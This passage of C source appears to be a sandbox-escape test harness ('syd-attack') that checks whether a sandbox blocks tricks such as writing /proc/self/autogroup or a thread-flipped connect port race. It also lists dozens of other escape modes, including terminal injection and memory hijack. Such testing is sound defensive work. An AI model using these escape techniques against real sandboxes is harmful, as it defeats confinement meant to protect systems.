  if (read_all("/proc/self/autogroup", before, sizeof before - 1, &e) <= 0) return blocked("read autogroup", e);
  before[strcspn(before, "\n")] = 0;
  printf("before: %s\n", before);
  snprintf(p2, sizeof p2, "/proc/%d/autogroup", getpid());
  const char* names[] = {"/proc/self/autogroup", p2, "openat(/proc/self, autogroup)"};
  int first = 0;
  for (int i = 0; i < 3; ++i) {
    int fd;
    if (i == 2) {
      int d = open("/proc/self", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
      fd = d >= 0 ? openat(d, "autogroup", O_WRONLY | O_CLOEXEC) : -1;
      if (d >= 0) {
        int keep = errno;
        close(d);
        errno = keep;
      }
    } else {
      fd = open(names[i], O_WRONLY | O_CLOEXEC);
    }
    if (fd < 0) {
      if (!first) first = errno;
      printf("%s: open: %s\n", names[i], en(errno));
      continue;
    }
    /* The kernel takes one change per 100 ms on the whole machine (EAGAIN). */
    ssize_t n;
    long end = now_ms() + 2000;
    while ((n = write(fd, nice, strlen(nice))) < 0 && errno == EAGAIN && now_ms() < end) sleep_ms(20);
    if (n < 0 && !first) first = errno;
    printf("%s: write: %s\n", names[i], n >= 0 ? "OK" : en(errno));
    close(fd);
    if (n >= 0) break;
  }
  if (read_all("/proc/self/autogroup", after, sizeof after - 1, &e) > 0) after[strcspn(after, "\n")] = 0;
  printf("after: %s\n", after);
  if (strcmp(before, after) != 0) return escaped("autogroup: the session's autogroup is now '%s'", after);
  return blocked("write /proc/self/autogroup", first ? first : EPERM);
}

/* ---- connect with its address flipped after a rule looked at it --------------- */
/* A thread flips the port of one sockaddr between OK and BAD while the main
 * thread connects with it to 127.0.0.1, for SECONDS. ESCAPED when a
 * connection reached BAD (getpeername says so). */
static struct sockaddr_in flip_sa;
static atomic_int flip_stop;
static uint16_t flip_ports[2];
static void* flip_port(void* arg) {
  (void)arg;
  for (unsigned n = 0; !atomic_load(&flip_stop); ++n) flip_sa.sin_port = flip_ports[n & 1];
  return NULL;
}
static int connect_flip(int ok, int bad, double seconds) {
  flip_sa.sin_family = AF_INET;
  flip_sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  flip_ports[0] = htons((uint16_t)ok);
  flip_ports[1] = htons((uint16_t)bad);
  flip_sa.sin_port = flip_ports[0];
  pthread_t t;
  pthread_create(&t, NULL, flip_port, NULL);
  struct timespec t0, now;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  long attempts = 0, to_ok = 0, to_bad = 0, refused = 0;
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    if ((double)(now.tv_sec - t0.tv_sec) + (double)(now.tv_nsec - t0.tv_nsec) / 1e9 > seconds) break;
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0) break;
    ++attempts;
    if (connect(s, (struct sockaddr*)&flip_sa, sizeof flip_sa) == 0) {
      struct sockaddr_in peer;
      socklen_t len = sizeof peer;
      getpeername(s, (struct sockaddr*)&peer, &len);
      if (peer.sin_port == flip_ports[1]) ++to_bad;
      else ++to_ok;
    } else {
      ++refused;
    }
    close(s);
  }
  atomic_store(&flip_stop, 1);
  pthread_join(t, NULL);
  printf("# %ld attempts: %ld to the allowed port, %ld to the other, %ld refused\n", attempts, to_ok, to_bad, refused);
  if (to_bad) return escaped("connect-flip: %ld connections reached port %d", to_bad, bad);
  printf("BLOCKED connect-flip: no connection reached port %d\n", bad);
  return 1;
}

int main(int argc, char** argv) {
  if (argc < 2) {
    fprintf(stderr, "usage: syd-attack MODE ARG...\n");
    return 100;
  }
  setvbuf(stdout, NULL, _IOLBF, 0);
  const char* m = argv[1];
  const char* a = argc > 2 ? argv[2] : "";
  const char* b = argc > 3 ? argv[3] : "";
#define IS(x) (strcmp(m, x) == 0)
  if (IS("steal-listener")) return steal_listener(a);
  if (IS("naive-supervisor")) return naive_supervisor(a);
  if (IS("parent-wait") && argc > 2) return parent_wait(argv + 2);
  if (IS("signal-parent")) return signal_parent(a);
  if (IS("proc-parent")) return proc_parent();
  if (IS("prio-parent")) return prio_parent();
  if (IS("proc-layout")) return proc_layout();
  if (IS("proc-knobs")) return proc_knobs();
  if (IS("kill-outside")) return kill_outside(a);
  if (IS("signal-lab") && argc > 3) return signal_lab(argc, argv);
  if (IS("tiocsti")) return tiocsti(a);
  if (IS("tioclinux")) return tioclinux();
  if (IS("tioccons")) return tioccons();
  if (IS("ns-calls")) return ns_calls(a);
  if (IS("bindmount-write")) return bindmount_write(a, b);
  if (IS("connect-flip") && argc > 4) return connect_flip(atoi(a), atoi(b), atof(argv[4]));
  if (IS("connect-reuse")) return connect_reuse(a, argc > 3 ? atoi(b) : 3);
  if (IS("stale-entry") && argc > 4) return stale_entry(a, atoi(b), argv[4]);
  if (IS("entry-after-recv") && argc > 3) return entry_after_recv(a, b);
  if (IS("status-of-the-dead") && argc > 3) return status_of_the_dead(a, b);
  if (IS("stale-parent") && argc > 2) return stale_parent(a);
  if (IS("eldest-pid") && argc > 2) return eldest_pid(a, argc > 3 ? b : "");
  if (IS("clone-parent") && argc > 3) return clone_parent(a, b, argc > 4 ? argv[4] : "/bin/sleep");
  if (IS("reaped-grandchild") && argc > 3) return reaped_grandchild(a, b, argc > 4 ? argv[4] : "/bin/sleep");
  if (IS("early-child") && argc > 3) return early_child(a, b, argc > 4 ? argv[4] : "/bin/sleep");
  if (IS("ipc-deep") && argc > 4) return ipc_deep(a, b, atoi(argv[4]));
  if (IS("orphan-exec-lock") && argc > 2) return orphan_exec_lock(a);
  if (IS("eldest-exec-lock") && argc > 2) return eldest_exec_lock(a, argc > 3 ? argv[3] : "");
  if (IS("ipc-stolen-conn") && argc > 3)
    return ipc_stolen_conn(a, b, argc > 4 ? argv[4] : "lock", argc > 5 ? atoi(argv[5]) : -1);
  if (IS("pidns-orphan") && argc > 2) return pidns_orphan(a, argc > 3 ? argv[3] : "lock");
  if (IS("ipc-dead-peer") && argc > 3) return ipc_dead_peer(a, b, argc > 4 ? atoi(argv[4]) : 50);
  if (IS("detached-tid") && argc > 2) return detached_tid(a);
  if (IS("mem-hijack") && argc > 3) return mem_hijack(a, b);
  if (IS("fan-write") && argc > 2) return fan_write(a);
  if (IS("acct-append") && argc > 2) return acct_append(a);
  if (IS("core-drop") && argc > 2) return core_drop(a);
  if (IS("fs-ioctl") && argc > 4) return fs_ioctl(a, b, argv[4]);
  if (IS("rawdev-read") && argc > 3) return rawdev_read(a, b);
  if (IS("reopen-nameless") && argc > 2) return reopen_nameless(a, argc > 3 ? b : "");
  if (IS("own-mem")) return own_mem(argc > 2 ? a : "");
  if (IS("caps-across-exec") && argc > 2) return caps_across_exec(a);
  if (IS("caps-after-exec") && argc > 2) return caps_after_exec(a);
  if (IS("magic-race")) return magic_race(argc > 2 ? atoi(a) : 200, argc > 3 ? b : NULL);
  if (IS("own-listener")) return own_listener(a);
  if (IS("listener-parent") && argc > 2) return listener_parent(argv + 2);
  if (IS("prlimit-wide")) return prlimit_wide();
  if (IS("peercred")) return peer_cred(a);
  if (IS("peercred-dgram")) return peer_cred_dgram(a);
  if (IS("future-pid") && argc > 3) return future_pid(atoi(a), b, argc > 4 ? argv[4] : NULL);
  if (IS("group-race")) return group_race(a, argc > 3 ? atoi(b) : 200);
  if (IS("pidns-group")) return pidns_group(a);
  if (IS("userns-signal") && argc > 3)
    return userns_signal(atoi(a), atoi(b), !(argc > 4 && strcmp(argv[4], "--no-drop") == 0));
  if (IS("vhangup")) return hangup(0);
  if (IS("tiocvhangup")) return hangup(1);
  if (IS("tty-stop")) return tty_stop(a);
  if (IS("tty-session") && argc > 2) return tty_session(argv + 2);
  if (IS("cgroup-move")) return cgroup_move();
  if (IS("autogroup")) return autogroup(argc > 2 ? a : "19");
#undef IS
  fprintf(stderr, "syd-attack: unknown mode %s\n", m);
  return 100;
}
